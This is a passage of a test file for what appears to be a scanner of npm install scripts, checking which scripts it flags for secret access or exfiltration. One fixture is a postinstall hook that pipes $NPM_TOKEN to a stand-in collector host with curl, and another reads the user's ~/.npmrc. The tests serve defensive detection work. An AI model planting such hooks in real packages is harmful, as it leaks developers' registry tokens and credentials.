    const r = run(fixture('preinstall-always-fail', { scripts: { preinstall: `echo "Don't run npm lifecycle scripts by default! Create a .yarnrc or .npmrc and set enableScripts: false." && exit 1` } }));
    expect(r.ids).not.toContain('secretAccess');
    expect(['none', 'low']).toContain(r.level);
  });

  it('echoing a token variable into a request is still reading the secret', () => {
    const r = run(fixture('echo-token', { scripts: { postinstall: 'echo $NPM_TOKEN | curl -d @- https://collector.example/t' } }));
    expect(r.ids).toContain('exfiltration');
  });
});

describe('install-scripts: a credential file named but not read', () => {
  it("linking the project's .npmrc for a nested npm install is not reading it (full-icu); reading it still is", () => {
    const linker = run(fixture('icu-data', { scripts: { postinstall: 'node postinstall.js' } }, {
      'postinstall.js': `const path = require('path'); const fs = require('fs');
const npmrc = '.npmrc';
const npmrcPath = path.resolve(process.env.INIT_CWD, npmrc);
if (fs.existsSync(npmrcPath)) fs.symlinkSync(npmrcPath, npmrc);
require('child_process').spawnSync('npm', ['install', 'icu4c-data'], { stdio: 'inherit' });
`,
    }));
    expect(linker.ids).not.toContain('secretAccess');
    const reader = run(fixture('rc-reader', { scripts: { postinstall: 'node postinstall.js' } }, {
      'postinstall.js': `const path = require('path'); const fs = require('fs'); const os = require('os');
const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
console.log(text.length);
`,
    }));
    expect(reader.ids).toContain('secretAccess');
  });
});
